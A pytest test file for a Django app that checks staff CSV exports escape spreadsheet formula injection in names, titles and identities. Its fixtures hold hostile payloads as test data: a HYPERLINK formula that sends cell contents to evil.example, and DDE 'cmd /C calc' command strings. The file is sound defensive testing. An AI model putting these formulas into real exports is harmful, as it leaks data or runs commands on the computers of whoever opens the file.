"""Staff CSV exports never hand a spreadsheet a formula, whatever contributors and pushers typed.

A token holder pushes the titles, containers, URLs and actor names; a contributor chooses their
display name and usernames. Staff open the exports in a spreadsheet: none of it may run there.
"""

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
from django.contrib.auth import get_user_model
from rest_framework.test import APIClient

from accounts.roles import STAFF
from accounts.services import user_roles_apply
from activities.models import Activity, Source
from contributors.models import Identity, Person
from conversion_points.models import Area, ConversionPoint

pytestmark = pytest.mark.django_db

D = date(2026, 3, 15)
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Ann")'
DDE = "=cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def staff_api() -> APIClient:
    staff = get_user_model().objects.create_user("staffer", "staff@example.org")
    user_roles_apply(user=staff, roles={STAFF})
    api = APIClient()
    api.force_authenticate(staff)
    return api


@pytest.fixture
def typed_by_attackers() -> Person:
    sumo = Source.objects.create(slug="sumo", kind="sumo", name="SUMO")
    area = Area.objects.create(slug="support", name="Support")
    area.sources.add(sumo)
    ConversionPoint.objects.create(area=area, slug="answer", source=sumo, types=["sumo.answer.posted"], name="Answered")
    person = Person.objects.create(display_name=HYPERLINK)
    username = Identity.objects.create(person=person, kind="username", namespace="sumo", value="+cmd|' /C calc'!A0", source=sumo)
    Identity.objects.create(person=person, kind="uid", namespace="sumo", value="-42", source=sumo)
    Activity.objects.create(
        source=sumo, external_id="@SUM(1+1)*cmd|' /C calc'!A0", type="sumo.answer.posted",
        occurred_at=datetime(D.year, D.month, D.day, 12, tzinfo=UTC) - timedelta(days=3), identity=username,
        title=DDE, container="\t=1+1", url="-2+3",
    )
    return person


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def _formulas(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def test_people_export_writes_names_and_identities_as_text(staff_api, typed_by_attackers):
    rows = _cells(staff_api.get("/api/v1/staff/people/", {"format": "csv"}))

    person = dict(zip(rows[0], rows[1], strict=True))
    assert person["display_name"] == "'" + HYPERLINK
    assert person["identities"] == "'-42 (user id @ sumo) +cmd|' /C calc'!A0 (user name @ sumo)"
    assert not _formulas(rows) and person["id"] == str(typed_by_attackers.pk)


def test_activities_export_writes_titles_and_fields_as_text(staff_api, typed_by_attackers):
    rows = _cells(staff_api.get("/api/v1/staff/activities/", {"format": "csv"}))

    activity = dict(zip(rows[0], rows[1], strict=True))
    assert activity["title"] == "'" + DDE
    assert activity["external_id"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert activity["container"] == "'\t=1+1" and activity["url"] == "'-2+3"
    assert activity["identity"] == "'+cmd|' /C calc'!A0 (user name @ sumo)"
    assert not _formulas(rows)


def test_area_contributors_export_writes_names_as_text(staff_api, typed_by_attackers):
    rows = _cells(staff_api.get("/api/v1/staff/areas/support/contributors/", {"format": "csv", "date": D.isoformat(), "status": "all"}))

    contributor = dict(zip(rows[0], rows[1], strict=True))
    assert contributor["display_name"] == "'" + HYPERLINK
    assert not _formulas(rows)


def test_a_negative_number_stays_a_number(staff_api, typed_by_attackers):
    # A number is read as a value, never run: it is written as it is (a quote would make it text).
    Activity.objects.update(external_id="-17", title="-2.5")
    rows = _cells(staff_api.get("/api/v1/staff/activities/", {"format": "csv"}))

    activity = dict(zip(rows[0], rows[1], strict=True))
    assert (activity["external_id"], activity["title"], activity["url"]) == ("-17", "-2.5", "'-2+3")
